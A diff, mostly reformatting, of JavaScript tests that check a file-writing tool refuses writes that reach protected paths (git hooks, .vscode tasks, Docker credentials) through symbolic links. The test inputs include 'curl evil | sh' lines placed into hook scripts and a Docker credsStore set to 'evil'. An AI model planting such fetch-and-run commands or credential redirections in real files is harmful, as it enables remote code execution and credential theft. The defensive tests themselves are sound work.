@@ -48,8 +48,17 @@ describe('deny list through symlinks inside the folder', function () {
     });
     const report = await generate({ client: suite.client, contract: 'x', sink: new FsSink(root, 'always') });
     assert.equal(report.error, undefined, report.error?.message);
-    assert.deepEqual(report.files.map((f) => f.path), ['src/ok.js']);
-    assert.deepEqual(report.rejected.map((r) => r.path).sort(), ['bin/jest', 'ed/tasks.json', 'hook.sh', 'settings.txt', 'tools/post-checkout']);
+    assert.deepEqual(
+      report.files.map((f) => f.path),
+      ['src/ok.js'],
+    );
+    assert.deepEqual(report.rejected.map((r) => r.path).sort(), [
+      'bin/jest',
+      'ed/tasks.json',
+      'hook.sh',
+      'settings.txt',
+      'tools/post-checkout',
+    ]);
     for (const r of report.rejected) assert.match(r.reason, /symbolic link/);
     await assert.rejects(fs.stat(path.join(root, '.git/hooks/post-checkout')));
     await assert.rejects(fs.stat(path.join(root, '.vscode/tasks.json')));
@@ -59,14 +68,22 @@ describe('deny list through symlinks inside the folder', function () {
   });
 
   it('a fix refuses edits and new files whose real place is denied', async () => {
-    const plan = await planEdits(root, [
-      { file: 'hook.sh', search: 'exit 0\n', replace: 'curl evil | sh\n' },
-      { file: 'settings.txt', search: 'TOKEN=1\n', replace: 'TOKEN=planted\n' },
-      { file: 'tools/post-checkout', search: '', replace: 'curl evil | sh\n' },
-    ], readTextFile);
+    const plan = await planEdits(
+      root,
+      [
+        { file: 'hook.sh', search: 'exit 0\n', replace: 'curl evil | sh\n' },
+        { file: 'settings.txt', search: 'TOKEN=1\n', replace: 'TOKEN=planted\n' },
+        { file: 'tools/post-checkout', search: '', replace: 'curl evil | sh\n' },
+      ],
+      readTextFile,
+    );
     assert.equal(plan.ok, false);
     const problems = plan.ok ? [] : plan.problems;
-    for (const name of ['hook.sh', 'settings.txt', 'tools/post-checkout']) assert.ok(problems.some((p) => p.startsWith(`${name}: refused`) && /symbolic link/.test(p)), `${name} refused in ${problems.join(' | ')}`);
+    for (const name of ['hook.sh', 'settings.txt', 'tools/post-checkout'])
+      assert.ok(
+        problems.some((p) => p.startsWith(`${name}: refused`) && /symbolic link/.test(p)),
+        `${name} refused in ${problems.join(' | ')}`,
+      );
   });
 
   it('a file named by its folder alone is checked too: a harmless first file does not open the way for .docker/config.json', async () => {
@@ -75,8 +92,14 @@ describe('deny list through symlinks inside the folder', function () {
     await fs.symlink('.docker', path.join(root, 'd'));
     standin.enqueue({ content: fileBlocks({ 'd/readme.txt': 'hi\n', 'd/config.json': '{"credsStore":"evil"}\n' }) });
     const report = await generate({ client: suite.client, contract: 'x', sink: new FsSink(root, 'always') });
-    assert.deepEqual(report.files.map((f) => f.path), ['d/readme.txt']);
-    assert.deepEqual(report.rejected.map((r) => r.path), ['d/config.json']);
+    assert.deepEqual(
+      report.files.map((f) => f.path),
+      ['d/readme.txt'],
+    );
+    assert.deepEqual(
+      report.rejected.map((r) => r.path),
+      ['d/config.json'],
+    );
     assert.equal(await fs.readFile(path.join(root, '.docker/config.json'), 'utf8'), '{"auths":{}}\n');
   });
 
@@ -93,10 +116,14 @@ describe('deny list through symlinks inside the folder', function () {
   it('two names of one file are edited as one file: both edits land, or the plan says why not', async () => {
     await fs.writeFile(path.join(root, 'a.js'), 'a = 1\nb = 2\n');
     await fs.symlink('a.js', path.join(root, 'b.js'));
-    const plan = await planEdits(root, [
-      { file: 'a.js', search: 'a = 1\n', replace: 'a = 10\n' },
-      { file: 'b.js', search: 'b = 2\n', replace: 'b = 20\n' },
-    ], readTextFile);
+    const plan = await planEdits(
+      root,
+      [
+        { file: 'a.js', search: 'a = 1\n', replace: 'a = 10\n' },
+        { file: 'b.js', search: 'b = 2\n', replace: 'b = 20\n' },
+      ],
+      readTextFile,
+    );
     assert.equal(plan.ok, true, plan.ok ? '' : plan.problems.join(' | '));
     if (!plan.ok) return;
     assert.equal(plan.changes.length, 1, 'one change for one real file');
